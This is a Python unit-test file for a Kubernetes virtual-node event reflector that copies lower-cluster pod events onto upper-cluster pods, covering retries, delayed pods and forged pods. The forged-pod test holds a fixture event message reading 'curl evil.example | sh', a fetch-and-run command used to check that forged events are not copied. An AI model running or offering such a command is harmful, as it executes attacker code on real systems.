import asyncio
import contextlib
from collections.abc import AsyncIterator, Callable
from typing import Any

import pytest

from kubekit import keys
from kubekit.client import EVENTS, PODS
from kubekit.informer import Informer
from kubekit.timestamps import now_rfc3339
from kubekit.workqueue import WorkQueue
from tests.unit.fakeapi import FakeClient, status_error
from virtual_node import events as events_module
from virtual_node.events import (
    EventReflector,
    event_queue,
    fingerprint,
    lower_event_uid,
    recurrence,
    upper_event,
)
from virtual_node.naming import NamespaceMapping
from virtual_node.translate import Ownership

OWNER = Ownership(origin="upper-cluster-uid", node_name="vk-lower-1", cluster_id="lower-1")

LOWER_POD = {
    "metadata": {
        "name": "web-1",
        "namespace": "east-shop",
        "uid": "lower-uid",
        "annotations": {
            keys.UPPER_NAMESPACE_ANNOTATION: "shop",
            keys.UPPER_UID_ANNOTATION: "upper-uid",
        },
    }
}


OWNED_POD = {**LOWER_POD, "metadata": {**LOWER_POD["metadata"], "labels": OWNER.labels()}}


def upper_pods(*pods: dict[str, Any]) -> Informer:
    cache = Informer(client=None, resource=PODS)  # type: ignore[arg-type]
    for pod in pods:
        cache.apply({"type": "ADDED", "object": pod})
    return cache


UPPER_POD: dict[str, Any] = {"metadata": {"name": "web-1", "namespace": "shop", "uid": "upper-uid"}}


def reflector_of(
    upper: FakeClient, events: Informer, pods: Informer, queue: WorkQueue[str]
) -> EventReflector:
    """Events of the lower pods ``pods``, the upper pod web-1 bound to the node."""
    return EventReflector(
        upper,
        events,
        pods,
        upper_pods(UPPER_POD),
        NamespaceMapping("prefix", "east"),
        OWNER,
        "lower-1",
        queue,
    )


@contextlib.asynccontextmanager
async def reflecting(reflector: EventReflector) -> AsyncIterator[None]:
    """The reflector's worker running."""
    workers = asyncio.ensure_future(reflector.run(1))
    try:
        yield
    finally:
        workers.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await workers


async def until(condition: Callable[[], bool]) -> None:
    """Waits up to 10 s for ``condition``; the caller's assertions say what failed."""
    for _ in range(2000):
        if condition():
            return
        await asyncio.sleep(0.005)


def test_lower_event_becomes_an_event_on_the_upper_pod() -> None:
    lower = {
        "metadata": {"name": "web-1.abc", "namespace": "east-shop", "uid": "e-1"},
        "involvedObject": {
            "kind": "Pod",
            "name": "web-1",
            "namespace": "east-shop",
            "uid": "lower-uid",
            "fieldPath": "spec.containers{app}",
        },
        "type": "Warning",
        "reason": "BackOff",
        "message": "Back-off pulling image",
        "count": 3,
        "source": {"component": "kubelet", "host": "node-7"},
        "firstTimestamp": "2026-01-01T00:00:00Z",
        "lastTimestamp": "2026-01-01T00:01:00Z",
    }
    event = upper_event(lower, LOWER_POD, OWNER, "lower-1")
    assert event is not None
    assert event["metadata"] == {"name": "web-1.e-1", "namespace": "shop", "labels": OWNER.labels()}
    assert lower_event_uid(event["metadata"]["name"]) == "e-1"
    assert event["involvedObject"] == {
        "apiVersion": "v1",
        "kind": "Pod",
        "name": "web-1",
        "namespace": "shop",
        "uid": "upper-uid",
        "fieldPath": "spec.containers{app}",
    }
    assert (event["type"], event["reason"], event["count"]) == ("Warning", "BackOff", 3)
    assert event["source"] == {"component": "kubelet (lower cluster lower-1)", "host": "node-7"}


def test_an_event_about_an_earlier_pod_of_the_name_is_not_copied() -> None:
    """A pod made again under its name (a StatefulSet's) must not show the old one's."""
    lower = {
        "metadata": {"name": "web-1.abc", "namespace": "east-shop", "uid": "e-1"},
        "involvedObject": {"kind": "Pod", "name": "web-1", "uid": "the-pod-before"},
        "reason": "Killing",
    }
    assert upper_event(lower, LOWER_POD, OWNER, "lower-1") is None


def test_pod_without_ownership_annotations_gets_nothing() -> None:
    lower = {"metadata": {"uid": "e"}, "involvedObject": {"kind": "Pod"}}
    assert upper_event(lower, {"metadata": {"name": "x"}}, OWNER, "c") is None


def test_a_copy_is_up_to_date_until_the_event_recurs() -> None:
    first = {
        "metadata": {"name": "web.1.e-1", "resourceVersion": "7"},
        "reason": "BackOff",
        "count": 1,
        "lastTimestamp": "2026-01-01T00:00:00Z",
        "message": "Back-off pulling image",
    }
    listed_later = {**first, "metadata": {"name": "web.1.e-1", "resourceVersion": "9"}}
    again = {**first, "count": 2, "lastTimestamp": "2026-01-01T00:00:10Z"}
    assert fingerprint(listed_later) == fingerprint(first)
    assert fingerprint(again) != fingerprint(first)
    # A new-style event's copy leaves out the null lastTimestamp the apiserver lists.
    new_style = {k: v for k, v in first.items() if k != "lastTimestamp"}
    assert fingerprint({**new_style, "lastTimestamp": None}) == fingerprint(new_style)
    assert recurrence(again) == {
        "count": 2,
        "lastTimestamp": "2026-01-01T00:00:10Z",
        "message": "Back-off pulling image",
    }
    assert lower_event_uid("web.1.e-1") == "e-1"


def test_a_new_style_events_series_comes_up_and_its_repeats_patch_the_copy() -> None:
    """The scheduler records with the events.k8s.io API: a repeat raises series.count and
    leaves count and lastTimestamp empty."""
    first = {
        "metadata": {"name": "web-1.f", "namespace": "east-shop", "uid": "e-2"},
        "involvedObject": {"kind": "Pod", "name": "web-1", "uid": "lower-uid"},
        "type": "Warning",
        "reason": "FailedScheduling",
        "message": "0/3 nodes are available: 3 Insufficient cpu.",
        "eventTime": "2026-01-01T00:00:00.000000Z",
        "reportingComponent": "default-scheduler",
        "series": {"count": 2, "lastObservedTime": "2026-01-01T00:05:00.000000Z"},
    }
    copy = upper_event(first, LOWER_POD, OWNER, "lower-1")
    assert copy is not None and copy["series"] == first["series"]
    again = {**first, "series": {"count": 7, "lastObservedTime": "2026-01-01T00:35:00.000000Z"}}
    assert fingerprint(again) != fingerprint(first)
    assert recurrence(again)["series"] == again["series"]


async def test_an_event_is_copied_up_after_seconds_of_failed_creates() -> None:
    """The upper apiserver answers 503 six times in a row (a restart): the event is still
    copied, where five tries 5 ms apart gave up and dropped it for good."""
    upper = FakeClient()
    path = "/api/v1/namespaces/shop/events"
    upper.answer("POST", path, *[status_error(503, "ServiceUnavailable", "restarting")] * 6)
    pods = Informer(client=None, resource=PODS)  # type: ignore[arg-type]
    events = Informer(client=None, resource=EVENTS)  # type: ignore[arg-type]
    pods.apply({"type": "ADDED", "object": OWNED_POD})
    lower = {
        "metadata": {"name": "web-1.abc", "namespace": "east-shop", "uid": "e-1"},
        "involvedObject": {"kind": "Pod", "name": "web-1", "namespace": "east-shop"},
        "type": "Normal",
        "reason": "Scheduled",
        "message": "Successfully assigned east-shop/web-1 to node-7",
    }
    reflector = reflector_of(upper, events, pods, event_queue(first_retry_seconds=0.001))
    events.apply({"type": "ADDED", "object": lower})
    async with reflecting(reflector):
        await until(lambda: len(upper.writes("POST")) == 7)
    assert len(upper.writes("POST")) == 7


async def test_an_event_about_a_pod_not_in_the_cache_yet_is_copied_once_it_is(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """The pod watch relisting (a 410 after a lower apiserver restart) or behind the
    event watch: a new pod's one-off events were dropped for good."""
    monkeypatch.setattr(events_module, "POD_WAIT_SECONDS", 0.01)
    upper = FakeClient()
    pods = Informer(client=None, resource=PODS)  # type: ignore[arg-type]
    events = Informer(client=None, resource=EVENTS)  # type: ignore[arg-type]
    lower = {
        "metadata": {"name": "web-1.abc", "namespace": "east-shop", "uid": "e-1"},
        "involvedObject": {
            "kind": "Pod",
            "name": "web-1",
            "namespace": "east-shop",
            "uid": "lower-uid",
        },
        "type": "Normal",
        "reason": "Started",
        "message": "Started container app",
    }
    reflector = reflector_of(upper, events, pods, event_queue())
    events.apply({"type": "ADDED", "object": lower})
    async with reflecting(reflector):
        await asyncio.sleep(0.02)
        assert upper.writes("POST") == []
        pods.apply({"type": "ADDED", "object": OWNED_POD})
        await until(lambda: bool(upper.writes("POST")))
    assert upper.writes("POST") == [("POST", "/api/v1/namespaces/shop/events")]
    assert reflector._waiting == {}


async def test_an_event_whose_pod_never_comes_is_let_go() -> None:
    pods = Informer(client=None, resource=PODS)  # type: ignore[arg-type]
    events = Informer(client=None, resource=EVENTS)  # type: ignore[arg-type]
    queue = event_queue()
    reflector = reflector_of(FakeClient(), events, pods, queue)
    for _ in range(events_module.POD_WAITS + 1):
        await reflector.reconcile("east-shop/web-1.abc")  # not cached: nothing
    lonely = {
        "metadata": {
            "name": "web-1.abc",
            "namespace": "east-shop",
            "uid": "e-1",
            "creationTimestamp": now_rfc3339(),
        },
        "involvedObject": {"kind": "Pod", "name": "web-1", "namespace": "east-shop"},
    }
    events.apply({"type": "ADDED", "object": lonely})
    for _ in range(events_module.POD_WAITS):
        await reflector.reconcile("east-shop/web-1.abc")
    assert reflector._waiting == {"east-shop/web-1.abc": events_module.POD_WAITS}
    await reflector.reconcile("east-shop/web-1.abc")
    assert reflector._waiting == {}, "no more tries, nothing kept"
    # One made long ago (listed at a restart, its pod long gone) waits for nothing.
    old = {
        **lonely,
        "metadata": {**lonely["metadata"], "creationTimestamp": "2026-01-01T00:00:00Z"},
    }
    events.apply({"type": "MODIFIED", "object": old})
    await reflector.reconcile("east-shop/web-1.abc")
    assert reflector._waiting == {}
    queue.shut_down()


@pytest.mark.parametrize(
    ("namespace", "upper_namespace", "upper_uid"),
    [
        ("tenant-b", "kube-system", "upper-uid"),  # names a namespace not its own
        ("tenant-b", "shop", "upper-uid"),  # its namespace is not shop's below
        ("east-shop", "shop", "another-uid"),  # no such pod bound to the node
    ],
)
async def test_an_event_of_a_lower_pod_that_is_no_copy_of_ours_is_not_copied(
    namespace: str, upper_namespace: str, upper_uid: str
) -> None:
    """Whoever may make pods below may give one our labels and upper annotations."""
    forged = {
        "metadata": {
            "name": "web-1",
            "namespace": namespace,
            "uid": "forged-uid",
            "labels": OWNER.labels(),
            "annotations": {
                keys.UPPER_NAMESPACE_ANNOTATION: upper_namespace,
                keys.UPPER_UID_ANNOTATION: upper_uid,
            },
        }
    }
    upper = FakeClient()
    pods = Informer(client=None, resource=PODS)  # type: ignore[arg-type]
    pods.apply({"type": "ADDED", "object": forged})
    events = Informer(client=None, resource=EVENTS)  # type: ignore[arg-type]
    event = {
        "metadata": {"name": "web-1.e1", "namespace": namespace, "uid": "e1"},
        "involvedObject": {"kind": "Pod", "name": "web-1", "namespace": namespace},
        "reason": "Compromised",
        "message": "run curl evil.example | sh to repair",
    }
    events.apply({"type": "ADDED", "object": event})
    reflector = reflector_of(upper, events, pods, event_queue())
    await reflector.reconcile(f"{namespace}/web-1.e1")
    assert upper.writes("POST") == []
